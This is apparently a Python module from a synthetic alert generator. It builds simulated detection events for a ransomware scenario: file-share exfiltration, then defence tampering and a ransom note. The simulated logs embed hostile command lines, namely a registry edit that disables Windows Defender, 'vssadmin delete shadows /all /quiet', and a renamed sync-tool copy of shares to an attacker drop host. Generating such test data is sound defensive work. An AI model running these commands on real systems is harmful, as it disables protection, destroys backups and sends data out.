"""The file server's shares leave the house, then a ransom note. The locker itself is stopped."""

from generator.attack.step import SYSTEM32, step
from generator.clock import at
from generator.formats.aminer import aminer
from generator.formats.elastic import elastic, process
from generator.formats.leef import leef
from generator.formats.suricata import suricata
from generator.formats.wazuh import domain_user, hash_list, process_guid, sysmon, wazuh
from generator.identifiers import hashes, hexadecimal
from generator.twins import twin
from generator.world import FILE_SERVER, SVC_FILES, Attacker

NOTE = r"D:\Shares\Sales\README_RESTORE_FILES.txt"
TUNNEL = f"{hexadecimal(48, 'tunnel')}.{Attacker.drop_host}"


def leaving():
    tunnel = step(
        "suricata", suricata, "exfil.dns", at(3, "07:40:26"), "A list of the files goes out inside name queries.",
        source=FILE_SERVER.ip, target="10.20.10.5", sid=1000518, severity=2, proto="UDP", app="dns", ports=(None, 53),
        category="Potential Corporate Privacy Violation", signature="LOCAL POLICY long TXT query names to one domain",
        technique=("T1048.003", "TA0010"), dns={"query": [{"type": "query", "rrname": TUNNEL, "rrtype": "TXT"}]})
    return [
        step(
            "elastic", elastic, "exfil.rclone", at(3, "07:24:50"), "A renamed copy tool starts on the file server.",
            host=FILE_SERVER, person=SVC_FILES, rule="Potential data exfiltration with a renamed copy tool",
            severity="medium",
            description="A process with the arguments of a file synchronisation tool runs under another name.",
            threat=("TA0010", "T1567.002", "Exfiltration Over Web Service: Exfiltration to Cloud Storage"),
            process=process(
                FILE_SERVER, r"C:\ProgramData\qmsync.exe",
                r"qmsync.exe copy D:\Shares drop:qm --transfers 16 --no-check-certificate",
                9120, SYSTEM32 + r"\rundll32.exe", 6612)),
        step(
            "proxy", leef, "exfil.upload", at(3, "07:30:13"), "1.8 GB go to a host that was registered last week.",
            reason="Large upload to a newly registered domain", action="Allowed", severity=7, person=SVC_FILES,
            host=FILE_SERVER,
            target=Attacker.drop_ip,
            url=f"{Attacker.drop_host}/u/qm", category="Newly Registered Domains", method="PUT", agent="rclone/v1.68.2",
            risk=84,
            sent=1_812_447_232, received=4_102),
        tunnel, twin(tunnel),
        step(
            "dns", aminer, "exfil.entropy", at(3, "07:40:26"),
            "The name server's anomaly detector sees the odd names too.",
            detector="entropy", domain=TUNNEL, client=FILE_SERVER.ip, record="TXT"),
    ]


def impact():
    return [
        step(
            "elastic", elastic, "impact.defender", at(3, "10:13:37"),
            "The antivirus is switched off on the file server.",
            host=FILE_SERVER, person=SVC_FILES, rule="Microsoft Windows Defender tampering", severity="medium",
            description="A setting that switches the antivirus off was written to the registry.", action="modification",
            category="registry", threat=("TA0005", "T1562.001", "Impair Defenses: Disable or Modify Tools"),
            process=process(
                FILE_SERVER, SYSTEM32 + r"\reg.exe",
                r'reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /v DisableAntiSpyware /d 1 /f', 10376,
                SYSTEM32 + r"\rundll32.exe", 6612)),
        step(
            "wazuh", sysmon, "impact.shadows", at(3, "10:15:02"), "Shadow copies are deleted.",
            host=FILE_SERVER, event=1, rule=100230, level=12,
            description="Shadow copies were deleted with vssadmin.exe",
            techniques=["T1490"], processGuid=process_guid("vssadmin"), processId="10412",
            image=SYSTEM32 + r"\vssadmin.exe",
            commandLine="vssadmin.exe delete shadows /all /quiet", user=domain_user(SVC_FILES),
            originalFileName="VSSADMIN.EXE",
            hashes=hash_list("vssadmin.exe"), parentImage=SYSTEM32 + r"\rundll32.exe", parentProcessId="6612"),
        step(
            "elastic", elastic, "impact.locker", at(3, "10:16:20"),
            f"The locker, {Attacker.locker}, is stopped after 212 files.",
            host=FILE_SERVER, person=SVC_FILES, rule="Ransomware prevention alert", severity="critical",
            description="A process that rewrote many files in turn was ended.", action="rename", category="file",
            threat=("TA0040", "T1486", "Data Encrypted for Impact"), file=r"C:\ProgramData\hushtide.exe",
            process=process(
                FILE_SERVER, r"C:\ProgramData\hushtide.exe", r"hushtide.exe -p D:\Shares", 10488,
                SYSTEM32 + r"\rundll32.exe", 6612)),
        step(
            "wazuh", wazuh, "impact.note", at(3, "10:16:41"), "The note is left in the sales share.",
            host=FILE_SERVER, rule=100240, level=13, description="File with the name of a ransom note added",
            groups=["local", "ossec", "syscheck", "syscheck_entry_added", "syscheck_file"], techniques=["T1486"],
            decoder="syscheck_new_entry", location="syscheck", log=f"File '{NOTE.lower()}' added\nMode: realtime\n",
            extra={"syscheck": {
                "path": NOTE.lower(), "mode": "realtime", "size_after": "1904", "uname_after": SVC_FILES.account,
                "event": "added",
                "sha256_after": hashes("README_RESTORE_FILES.txt")["sha256"]}}),
    ]


def steps():
    return leaving() + impact()
